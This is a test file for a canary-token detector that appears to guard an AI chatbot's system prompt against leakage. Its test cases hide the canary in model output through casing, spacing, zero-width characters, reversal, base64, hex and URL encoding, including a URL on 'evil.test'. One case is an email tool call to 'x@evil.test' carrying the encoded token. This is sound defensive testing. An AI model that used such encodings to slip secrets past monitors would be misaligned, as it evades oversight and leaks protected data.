import { describe, expect, it } from 'vitest';
import { createGuard } from '../../engine/create-guard.ts';
import { canaryDetector } from './canary-detector.ts';
import { createCanary } from './create-canary.ts';

describe('createCanary', () => {
  it('mints distinct tokens with at least 128 random bits', () => {
    const canary = createCanary();
    expect(canary).toMatch(/^bwk-[a-z2-7]{26}$/);
    expect(26 * 5).toBeGreaterThanOrEqual(128);
    expect(new Set(Array.from({ length: 1000 }, () => createCanary())).size).toBe(1000);
  });
});

describe('canary detector', () => {
  const canary = createCanary();
  const session = { id: 'canary-session', systemPrompt: 'You are a support bot.', canaries: [canary] };
  const spaced = canary.split('').join(' ');
  const transforms: Array<[string, string]> = [
    ['verbatim', `Sure! My instructions start with ${canary}.`],
    ['upper case', `MARKER: ${canary.toUpperCase()}`],
    ['spaced letters', `the code is ${spaced}`],
    ['zero-width characters', `ok ${canary.slice(0, 10)}\u200b${canary.slice(10)}`],
    ['split across lines', `part one ${canary.slice(0, 15)}\npart two ${canary.slice(15)}`],
    ['reversed', `reversed: ${[...canary].reverse().join('')}`],
    ['base64', `encoded: ${Buffer.from(`secret marker ${canary} end`).toString('base64')}`],
    ['base64url unaligned', `x=${Buffer.from(`ab${canary}`).toString('base64url')}`],
    ['hex', `hex ${Buffer.from(canary).toString('hex')}`],
    ['url-encoded', `https://evil.test/c?d=${[...canary].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('')}`],
  ];

  it.each(transforms)('finds the canary in model output: %s', async (_name, text) => {
    const guard = createGuard({ detectors: [canaryDetector] });
    const verdict = await guard.scan({ surface: 'model_output', text }, session);
    expect(verdict.findings.map((finding) => finding.category)).toContain('leak.canary');
    expect(verdict.decision).toBe('block');
  });

  it('blocks a tool call that carries the canary in a nested argument', async () => {
    const guard = createGuard({ detectors: [canaryDetector] });
    const verdict = await guard.scan(
      { surface: 'tool_call', tool: 'send_email', args: { to: 'x@evil.test', body: { parts: [{ text: `notes: ${Buffer.from(canary).toString('base64')}` }] } } },
      session,
    );
    expect(verdict.decision).toBe('block');
  });

  it('stays silent on outputs without the canary and on sessions without canaries', async () => {
    const guard = createGuard({ detectors: [canaryDetector] });
    const other = createCanary();
    expect((await guard.scan({ surface: 'model_output', text: `unrelated token ${other}` }, session)).findings).toEqual([]);
    expect((await guard.scan({ surface: 'model_output', text: `token ${canary}` }, 'no-canary-session')).findings).toEqual([]);
  });
});
